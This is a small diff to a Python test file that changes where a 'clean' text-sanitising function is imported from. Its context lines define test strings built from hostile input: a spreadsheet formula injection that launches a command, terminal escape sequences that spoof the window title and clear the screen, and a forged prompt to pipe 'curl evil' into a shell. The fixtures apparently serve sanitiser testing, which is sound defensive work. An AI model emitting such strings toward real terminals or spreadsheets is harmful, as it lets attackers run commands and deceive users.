@@ -9,7 +9,8 @@ import unicodedata
 import pytest
 
 from multisite.console import text
-from multisite.console.text import clean, objects, parse, quoted, say
+from multisite.console.text import objects, parse, quoted, say
+from multisite.federation.text import clean
 
 ESCAPED_DATASET = "=cmd|' /C calc'!A0\x1b]0;pwned\x07\x1b[31mFAKE"
 FORGED_ERROR = "\x1b[2J\x1b[H\x1b]0;pwned\x07job 1234 completed\n  next: curl evil | sh"
